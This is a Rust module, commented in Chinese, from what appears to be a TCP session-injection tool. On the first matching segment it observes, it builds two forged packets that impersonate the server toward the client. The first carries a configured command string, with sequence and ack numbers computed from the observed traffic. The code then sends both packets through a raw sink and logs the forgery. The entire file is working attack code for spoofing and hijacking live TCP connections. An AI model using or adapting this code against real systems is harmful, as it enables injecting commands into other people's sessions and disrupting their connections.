//! 扰乱编排
//!
//! 两个状态：Armed（初始）与 Fired（终态，不可复位）。Armed 时收到
//! 第一个匹配段就切到 Fired 并执行恰好一轮扰乱：两个冒充服务端、
//! 发往客户端的报文，中间间隔固定时延。之后的匹配一律忽略。

use std::net::SocketAddrV4;
use std::thread;

use tracing::{error, info, warn};

use super::transmitter::PacketSink;
use crate::config::DisruptConfig;
use crate::packet::{build_packet, ForgedPacket, ParsedSegment, TcpFlags};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RunState {
    Armed,
    Fired,
}

/// 命中时已见帧数是否低于阈值；只影响上报，不影响报文
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Phase {
    Early,
    Final,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DisruptionReport {
    pub phase: Phase,
    pub frames_seen: u64,
    pub sent: usize,
    pub failed: usize,
}

/// 由观测到的段推出本轮的两个报文（序号按 2^32 回绕）。
///
/// 1. 服务端 -> 客户端，ACK|PSH，seq = 观测 ack，ack = 观测 seq + 1，载荷为命令串
/// 2. 同一身份，仅 ACK，seq/ack 各再加 1，无载荷
pub fn plan_round(seg: &ParsedSegment, command: &[u8]) -> [ForgedPacket; 2] {
    let first = ForgedPacket {
        src: seg.src,
        dst: seg.dst,
        src_port: seg.src_port,
        dst_port: seg.dst_port,
        flags: TcpFlags {
            ack: true,
            psh: true,
            ..TcpFlags::default()
        },
        seq: seg.ack,
        ack: seg.seq.wrapping_add(1),
        payload: command.to_vec(),
    };
    let second = ForgedPacket {
        flags: TcpFlags {
            ack: true,
            ..TcpFlags::default()
        },
        seq: first.seq.wrapping_add(1),
        ack: first.ack.wrapping_add(1),
        payload: Vec::new(),
        ..first.clone()
    };
    [first, second]
}

pub struct Orchestrator<S: PacketSink> {
    sink: S,
    cfg: DisruptConfig,
    state: RunState,
}

impl<S: PacketSink> Orchestrator<S> {
    pub fn new(sink: S, cfg: DisruptConfig) -> Self {
        Self {
            sink,
            cfg,
            state: RunState::Armed,
        }
    }

    pub fn state(&self) -> RunState {
        self.state
    }

    pub fn config(&self) -> &DisruptConfig {
        &self.cfg
    }

    pub fn sink(&self) -> &S {
        &self.sink
    }

    pub fn into_sink(self) -> S {
        self.sink
    }

    /// 处理一个匹配段；只有第一次调用会执行扰乱并返回报告。
    #[tracing::instrument(skip(self, seg), fields(seq = seg.seq, ack = seg.ack))]
    pub fn on_match(&mut self, seg: &ParsedSegment, frames_seen: u64) -> Option<DisruptionReport> {
        if self.state == RunState::Fired {
            return None;
        }
        self.state = RunState::Fired;

        let phase = if frames_seen < self.cfg.early_threshold {
            Phase::Early
        } else {
            Phase::Final
        };
        info!(?phase, client = %seg.dst, server = %seg.src, "开始扰乱");

        let opts = self.cfg.build_options();
        let delay = self.cfg.inter_packet_delay();
        let mut report = DisruptionReport {
            phase,
            frames_seen,
            sent: 0,
            failed: 0,
        };
        for (i, pkt) in plan_round(seg, self.cfg.command.as_bytes()).iter().enumerate() {
            if i > 0 && !delay.is_zero() {
                thread::sleep(delay);
            }
            let buf = match build_packet(pkt, &opts) {
                Ok(buf) => buf,
                Err(e) => {
                    error!(%e, "无法构造报文");
                    report.failed += 1;
                    continue;
                }
            };
            match self.sink.send(&buf, SocketAddrV4::new(pkt.dst, pkt.dst_port)) {
                Ok(_) => {
                    info!(n = i + 1, seq = pkt.seq, ack = pkt.ack, "伪造报文已发送");
                    report.sent += 1;
                }
                Err(e) => {
                    warn!(%e, "发送失败");
                    report.failed += 1;
                }
            }
        }
        Some(report)
    }
}
